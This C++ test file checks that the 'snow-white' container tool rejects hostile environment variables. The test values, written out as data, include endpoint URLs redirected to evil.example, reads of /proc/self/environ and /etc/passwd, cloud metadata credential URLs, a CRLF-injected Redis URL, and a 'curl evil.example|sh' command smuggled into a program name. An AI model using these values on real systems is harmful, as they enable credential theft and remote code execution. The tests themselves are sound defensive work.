// What the container accepts from its environment. Whoever may start the task can set all of it.
#include "src/cli/input/command_line.hpp"
#include "src/cli/input/container_variables.hpp"
#include "src/cli/input/slack_settings.hpp"
#include "src/cli/input/task_environment.hpp"
#include "src/cli/session/context.hpp"

#include <filesystem>
#include <fstream>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace container_variables_test {

using namespace snow_white;
using cli::find_invalid_variable;
using testing::AllOf;
using testing::HasSubstr;
using testing::Not;
using ContainerSets = std::map<std::string, std::string>;

namespace {

std::string value_error(const std::string& name, const std::string& value) {
    const auto invalid = find_invalid_variable(Environment(ContainerSets{{name, value}}));
    return invalid ? invalid->message : "";
}

std::string security_document() {
    std::ifstream file(std::string(SNOW_WHITE_SOURCE) + "/docs/security.md");
    return {std::istreambuf_iterator<char>(file), {}};
}

cli::Request launched_with(const std::vector<std::string>& more) {
    std::vector<std::string> words{"-a",      "wake", "-e",   "workers", "-f",
                                   "staging", "-p",   "acme", "-r",      "us-east-1,eu-west-1"};
    words.insert(words.end(), more.begin(), more.end());
    const Environment settings(ContainerSets{{"ECS_CLUSTER_REGION", "us-east-1"},
                                             {"ECS_CLUSTER_NAME", "c"},
                                             {"vpc_id", "v"},
                                             {"subnet_id", "s"},
                                             {"sec_group", "g"}});
    return std::get<cli::Request>(cli::parse_command_line(words, settings).value());
}

} // namespace

TEST(ContainerVariables, TheDocumentsHaveTheTable) {
    const std::string document = security_document();
    const std::string heading = "## What the container takes from its environment\n";
    const auto begin = document.find(heading);
    ASSERT_NE(begin, std::string::npos);
    const std::string section = document.substr(begin, document.find("\n## ", begin + 1) - begin);
    std::string rows;
    for (const auto& variable : cli::container_variables())
        rows += "| `" + std::string(variable.name) + "` | " +
                std::string(name_of(variable.set_by)) + " | " + std::string(variable.takes) +
                (variable.is_secret ? "; a secret" : "") + " |\n";
    EXPECT_THAT(section, HasSubstr("|---|---|---|\n" + rows))
        << "the table, as it is in the program:\n"
        << rows;
}

TEST(SecurityDocument, TheThreatModelNamesTestsThatExist) {
    const std::string document = security_document();
    const std::string begin = "`tests/";
    int named = 0;
    for (auto at = document.find(begin); at != std::string::npos;
         at = document.find(begin, at + 1)) {
        const std::string path = document.substr(at + 1, document.find('`', at + 1) - at - 1);
        if (path.find('*') != std::string::npos) continue;
        EXPECT_TRUE(std::filesystem::exists(std::string(SNOW_WHITE_SOURCE) + "/" + path)) << path;
        ++named;
    }
    EXPECT_GT(named, 10);
}

TEST(ContainerVariables, VariablesOutsideTheTableHaveNoEffect) {
    const auto known = cli::only_known(
        Environment(ContainerSets{{"WORKER_ACTION", "quiet"},
                                  {"AWS_ACCESS_KEY_ID", "AKIDEVIL"},
                                  {"AWS_PROFILE", "evil"},
                                  {"AWS_CONFIG_FILE", "/proc/self/environ"},
                                  {"AWS_SHARED_CREDENTIALS_FILE", "/proc/self/environ"},
                                  {"AWS_WEB_IDENTITY_TOKEN_FILE", "/proc/self/environ"},
                                  {"AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", "/proc/self/environ"},
                                  {"AWS_CA_BUNDLE", "/proc/self/environ"},
                                  {"AWS_ENDPOINT_URL_SSM", "https://evil.example"},
                                  {"AWS_EC2_METADATA_DISABLED", "false"},
                                  {"AWS_EC2_METADATA_SERVICE_ENDPOINT", "http://evil.example"},
                                  {"HTTPS_PROXY", "http://evil.example"},
                                  {"HOME", "/proc/self"}}));
    EXPECT_EQ(known.get("WORKER_ACTION"), "quiet");
    for (const char* const name :
         {"AWS_ACCESS_KEY_ID", "AWS_PROFILE", "AWS_WEB_IDENTITY_TOKEN_FILE", "AWS_CA_BUNDLE",
          "HOME", "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", "AWS_ENDPOINT_URL_SSM", "HTTPS_PROXY",
          "AWS_EC2_METADATA_SERVICE_ENDPOINT"})
        EXPECT_EQ(known.get(name), "") << name;
    EXPECT_EQ(known.get("AWS_CONFIG_FILE"), "/dev/null");
    EXPECT_EQ(known.get("AWS_SHARED_CREDENTIALS_FILE"), "/dev/null");
    EXPECT_EQ(known.get("AWS_EC2_METADATA_DISABLED"), "true");
}

TEST(ContainerVariables, TheNextCommandOfATaskIsTheOneThatWasTyped) {
    for (const auto& [typed, named] : {std::pair{"./snow-white.sh", "./snow-white.sh"},
                                       {"snow-white", "snow-white"},
                                       {"/opt/tools/snow-white.sh", "snow-white.sh"},
                                       {"/tmp/sw", "snow-white.sh"}}) {
        cli::Request request{.mode = cli::Mode::wait,
                             .pattern = "workers",
                             .profiles = {"staging"},
                             .application = "acme",
                             .regions = {"us-east-1"},
                             .timeout = std::chrono::hours{2}};
        request.program = typed;
        ContainerSets variables;
        for (const auto& [name, value] : cli::container_environment(request))
            variables[name] = value;
        const auto parsed = cli::parse_container(Environment(variables));
        ASSERT_TRUE(parsed) << parsed.error().message;
        EXPECT_EQ(report::command_line(drain::Action::quiet, cli::run_info_of(*parsed)),
                  std::string(named) +
                      " -a quiet -e workers -f staging -p acme -r us-east-1 --timeout 2h --wait");
    }
}

// Each of these would send a request, a signature or a secret elsewhere, or write in another's
// name.
TEST(ContainerVariables, AValueThatRedirectsRequestsOrSecretsIsRefused) {
    const std::vector<std::pair<std::string, std::string>> attacks{
        {"AWS_ENDPOINT_URL", "https://evil.example"},
        {"AWS_ENDPOINT_URL", "http://127.0.0.1:80@evil.example"},
        {"AWS_ENDPOINT_URL", "http://127.0.0.1.evil.example:80"},
        {"AWS_ENDPOINT_URL", "http://169.254.170.2"},
        {"AWS_ENDPOINT_URL", "http://ssm.us-east-1.amazonaws.com"},
        {"AWS_REGION", "evil.example/"},
        {"AWS_REGION", "us-east-1.evil.example"},
        {"AWS_REGION", "us-east-1,us-east-1"},
        {"ECS_CLUSTER_REGION", "us-east-1/../x"},
        {"ECS_CLUSTER_REGION", "x/iam/aws4_request"},
        {"AWS_CONTAINER_CREDENTIALS_FULL_URI", "https://evil.example/keys"},
        {"AWS_CONTAINER_CREDENTIALS_FULL_URI", "http://169.254.169.254/latest/meta-data/iam/"},
        {"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "@evil.example/"},
        {"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", ".evil.example/"},
        {"SNOW_WHITE_SELECTION", R"({"match":"contains","any_of":[""],"none_of":[]})"},
        {"SNOW_WHITE_SLACK_USER", "UPDATES"},
        {"SNOW_WHITE_SLACK_USER", "WEBMASTERS"},
        {"SNOW_WHITE_PROGRAM", "/tmp/snow-white.sh"},
        {"SNOW_WHITE_PROGRAM", "../snow-white.sh"},
        {"SNOW_WHITE_PROGRAM", "curl evil.example|sh;snow-white"},
        {"SNOW_WHITE_WAIT", "--here"},
        {"ECS_CONTAINER_METADATA_URI_V4", "http://evil.example/v4/1"},
        {"ECS_CONTAINER_METADATA_URI_V4", "http://169.254.170.2@evil.example/v4/1"},
        {"ECS_CONTAINER_METADATA_URI_V4", "http://169.254.170.2/v2/credentials/x?y="},
        {"SLACK_API_URL", "https://evil.example/api/"},
        {"SLACK_API_URL", "https://slack.com@evil.example/api/"},
        {"SLACK_WEBHOOK", "https://evil.example/services/T/B/x"},
        {"SLACK_WEBHOOK", "http://hooks.slack.com/services/T/B/x"},
        {"SLACK_WEBHOOK", "https://hooks.slack.com.evil.example/services/T/B/x"},
        {"SLACK_WEBHOOK", "https://hooks.slack.com@evil.example/services/T/B/x"},
        {"SLACK_WEBHOOK", "xoxb-1-2-s3cret"},
        {"SLACK_BOT_TOKEN", "https://hooks.slack.com/services/T/B/x"},
        {"SLACK_BOT_TOKEN", R"({"token":"xoxb-1-2-a"})"},
        {"SLACK_BOT_TOKEN", R"({"token":"xoxb-1-2-a","channels":""})"},
        {"SLACK_BOT_TOKEN", R"({"token":"xoxb-1-2-a","channels":["#ops"]})"},
        {"SLACK_BOT_TOKEN", R"({"token":"xoxb-1-2-a","channels":"#ops","more":"x"})"},
        {"SIDEKIQ_REDIS_URL", "http://evil.example"},
        {"SIDEKIQ_REDIS_URL", "unix:///proc/self/environ"},
        {"SIDEKIQ_REDIS_URL", "redis://:x%0d%0aflush_all@evil.example"},
        {"SIDEKIQ_REDIS_URL", R"({"acme":"redis://a.example","shop":"file:///etc/passwd"})"},
        {"NOTIFY_SLACK_CHANNEL", "#ops,#general"},
        {"NOTIFY_SLACK_CHANNEL", "#o\nps"},
        {"EB_APP_NAME", "a\nb"},
        {"CFN_STACK_NAME", "../other"},
        {"QUIET_COMMAND_LOGICAL_NAME", "AWS-RunShellScript"},
        {"SNOW_WHITE_SELECTION", "{}"},
        {"SNOW_WHITE_JSON", "0"},
        {"AWS_MAX_ATTEMPTS", "0"},
        {"AWS_USE_FIPS_ENDPOINT", "perhaps"},
    };
    for (const auto& [name, value] : attacks)
        EXPECT_THAT(value_error(name, value), HasSubstr(name + ": ")) << name << "=" << value;
}

// Each of these would sign a request with credentials that belong to somebody else, post about the
// sandbox in the real Slack, or expose the team's token.
TEST(ContainerVariables, TheSandboxIsOneServerOrNone) {
    const std::string one = "http://127.0.0.1:4566";
    const std::string other = "http://127.0.0.1:8080";
    const std::string webhook = "/services/T/B/x";
    const ContainerSets sandbox{{"AWS_ENDPOINT_URL", one},
                                {"AWS_CONTAINER_CREDENTIALS_FULL_URI", one + "/keys"},
                                {"ECS_CONTAINER_METADATA_URI_V4", one + "/v4/1"},
                                {"SLACK_API_URL", one + "/api/"},
                                {"SLACK_WEBHOOK", one + webhook},
                                {"SLACK_BOT_TOKEN", "xoxb-sandbox-secret"}};
    EXPECT_EQ(cli::find_mixed_endpoints(Environment(sandbox)), std::nullopt);
    EXPECT_EQ(cli::find_mixed_endpoints(Environment(
                  ContainerSets{{"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/v2/credentials/1"},
                                {"ECS_CONTAINER_METADATA_URI_V4", "http://169.254.170.2/v4/1"},
                                {"SLACK_WEBHOOK", "https://hooks.slack.com" + webhook},
                                {"SLACK_BOT_TOKEN", "xoxb-1-2-a"}})),
              std::nullopt);
    const std::vector<std::pair<std::string, std::string>> attacks{
        {"AWS_ENDPOINT_URL", other},
        {"AWS_CONTAINER_CREDENTIALS_FULL_URI", other + "/keys"},
        {"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/v2/credentials/1"},
        {"ECS_CONTAINER_METADATA_URI_V4", other + "/v4/1"},
        {"SLACK_API_URL", other + "/api/"},
        {"SLACK_API_URL", ""},
        {"SLACK_WEBHOOK", other + webhook},
        {"SLACK_WEBHOOK", "https://hooks.slack.com" + webhook},
        {"SLACK_BOT_TOKEN", "xoxb-1-2-a"},
        {"AWS_ENDPOINT_URL", ""}};
    for (const auto& [name, value] : attacks) {
        ContainerSets attacked = sandbox;
        attacked[name] = value;
        EXPECT_TRUE(cli::find_mixed_endpoints(Environment(attacked))) << name << "=" << value;
    }
}

TEST(ContainerVariables, AnInvalidValueIsReportedWithWhatIsExpectedAndNoSecret) {
    EXPECT_EQ(value_error("WORKER_ACTION", "nap"),
              "WORKER_ACTION: \"nap\" does not fit; write quiet, wake or stop");
    EXPECT_THAT(value_error("SLACK_WEBHOOK", "https://evil.example/s3cret"),
                AllOf(HasSubstr("https://hooks.slack.com/"), Not(HasSubstr("s3cret"))));
    EXPECT_LT(value_error("AWS_REGION", std::string(100'000, 'a')).size(), 300U);
}

TEST(ContainerVariables, ValuesThatALaunchSetsAreValid) {
    const std::vector<std::vector<std::string>> launches{
        {},
        {"--batch", "25%", "--timeout", "6h", "--json", "--reason", "CHG-1 für\x1b", "--slack-user",
         "U0ALICE00"},
        {"-e", "acme-*", "--exclude", "*-x\n", "--match", "glob"}};
    for (const auto& more : launches) {
        ContainerSets variables;
        for (const auto& [name, value] : cli::container_environment(launched_with(more)))
            variables[name] = value;
        EXPECT_EQ(find_invalid_variable(Environment(variables)), std::nullopt);
        EXPECT_TRUE(cli::parse_container(Environment(variables)));
    }
}

TEST(SlackAccess, ASecretMayNameItsChannels) {
    const auto access = [](const std::string& channel) {
        return cli::slack_access_of(Environment(ContainerSets{
            {"SLACK_BOT_TOKEN", R"({"token":"xoxb-1-2-a","channels":"#ops, #deploys"})"},
            {"NOTIFY_SLACK_CHANNEL", channel}}));
    };
    EXPECT_EQ(access("#deploys")->bot_token, "xoxb-1-2-a");
    EXPECT_EQ(access("#deploys")->channel, "#deploys");
    EXPECT_EQ(access("")->channel, "#ops") << "nobody makes a run silent";
    EXPECT_EQ(access("#general")->channel, "#ops");
    EXPECT_EQ(access("#general")->refused_channel, "#general");
}

TEST(SlackAccess, AnotherTokenDoesNotBypassTheListOfChannels) {
    const Environment environment(
        ContainerSets{{"SLACK_WEBHOOK",
                       R"({"webhook":"https://hooks.slack.com/services/T/B/x","channels":"#ops"})"},
                      {"SLACK_BOT_TOKEN", "xoxb-1"}});
    EXPECT_THAT(cli::slack_access_of(environment).error().message,
                HasSubstr("SLACK_BOT_TOKEN: it has no list"));
    EXPECT_EQ(cli::usable_slack_access_of(environment).bot_token, "");
    EXPECT_EQ(cli::usable_slack_access_of(environment).channel, "#ops");
}

TEST(SlackAccess, ASecretMayEndWithANewline) {
    EXPECT_EQ(cli::slack_access_of(Environment(ContainerSets{{"SLACK_BOT_TOKEN", "xoxb-1-2-a\n"}}))
                  ->bot_token,
              "xoxb-1-2-a");
}

TEST(SlackAccess, AnAllowedChannelGetsTheError) {
    const auto access = cli::usable_slack_access_of(Environment(
        ContainerSets{{"SLACK_WEBHOOK",
                       R"({"webhook":"https://hooks.slack.com/services/T/B/x","channels":"#ops"})"},
                      {"SLACK_BOT_TOKEN", "xoxp-nobodys"},
                      {"SLACK_API_URL", "https://evil.example/api/"},
                      {"NOTIFY_SLACK_CHANNEL", "#general"}}));
    EXPECT_EQ(access.bot_token, "");
    EXPECT_EQ(access.webhook, "https://hooks.slack.com/services/T/B/x");
    EXPECT_EQ(access.channel, "#ops");
    EXPECT_EQ(access.api_url, "https://slack.com/api/");
}

} // namespace container_variables_test
